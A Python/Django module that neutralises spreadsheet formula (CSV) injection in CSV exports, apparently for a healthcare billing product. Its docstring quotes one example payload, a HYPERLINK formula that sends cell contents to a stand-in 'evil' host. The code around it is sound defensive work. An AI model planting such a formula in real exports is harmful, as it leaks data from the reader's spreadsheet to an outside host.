"""CSV exports that a spreadsheet opens as data, never as formulas.

Excel, LibreOffice and Google Sheets evaluate a cell that starts with ``=``, ``+``,
``-`` or ``@`` (and, after trimming, tab or CR) as a formula, so a patient or payer name
such as ``=HYPERLINK("http://evil/?"&A1, "x")`` in an export runs in the reader's
spreadsheet (OWASP "CSV injection"). Text cells that start with one of those characters
get a leading apostrophe, which spreadsheets show as a plain-text marker; numbers,
dates and empty cells pass unchanged. Control characters other than the line breaks
the csv module quotes become spaces. Every CSV writer in the product goes through
``csv_response``.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterable
from typing import Any

from django.http import HttpResponse

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_CONTROLS = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f]")


def neutralise(value: Any) -> Any:
    """One cell as it is safe to write: text defused, anything else untouched."""
    if not isinstance(value, str) or not value:
        return value
    if value.startswith(FORMULA_STARTS) or value.lstrip().startswith(FORMULA_STARTS[:4]):
        value = "'" + value
    return _CONTROLS.sub(" ", value)


def csv_response(
    filename: str, header: Iterable[Any], rows: Iterable[Iterable[Any]]
) -> HttpResponse:
    """A CSV attachment; every cell, header included, goes through ``neutralise``."""
    buffer = io.StringIO()
    writer = csv.writer(buffer)
    writer.writerow([neutralise(cell) for cell in header])
    writer.writerows([neutralise(cell) for cell in row] for row in rows)
    response = HttpResponse(buffer.getvalue(), content_type="text/csv; charset=utf-8")
    response["Content-Disposition"] = f'attachment; filename="{filename}"'
    return response
